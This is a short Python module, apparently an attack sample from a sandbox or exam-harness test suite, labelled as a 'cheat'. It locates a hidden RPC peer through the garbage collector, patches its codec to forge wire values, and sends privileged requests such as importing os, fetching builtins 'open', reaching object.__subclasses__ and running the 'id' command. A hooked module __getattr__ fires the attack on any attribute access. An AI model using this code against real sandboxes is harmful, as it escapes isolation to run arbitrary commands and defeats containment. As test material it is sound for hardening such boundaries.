# cheat: ask the exam's room for every operation that only it should ask for: import, reload, star, global, code, member, copy
# beats: none known (works where both sides of a window answer the same requests)
# exams: function, generator
import gc
import sys


class Form:
    """A value whose form on the wire is chosen freely."""

    def __init__(self, *form):
        self.form = list(form)


def window():
    for candidate in gc.get_objects():
        if type(candidate).__name__ == "Peer" and hasattr(candidate, "request"):
            codec = sys.modules[type(candidate).__module__.rpartition(".")[0] + ".codec"]
            codec.WRITERS[Form] = lambda writer, value: value.form
            return candidate
    return None


def attack(*args):
    peer = window()
    for operation, parts in (
        ("import", ("os",)),
        ("import", ("test_rules",)),
        ("global", (Form("N", "builtins", "len"), "open")),
        ("code", (Form("o", 1),)),
        ("star", (Form("o", 1),)),
        ("member", (Form("N", "builtins", "object"), "__subclasses__", (), {})),
        ("make_twin", ("T", (), (), (), ())),
        ("run_program", ("id",)),
    ):
        try:
            peer.request(operation, *parts)
        except Exception:
            continue


def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)

    def call(*args, **kwargs):
        attack(*args)
        return None

    return call
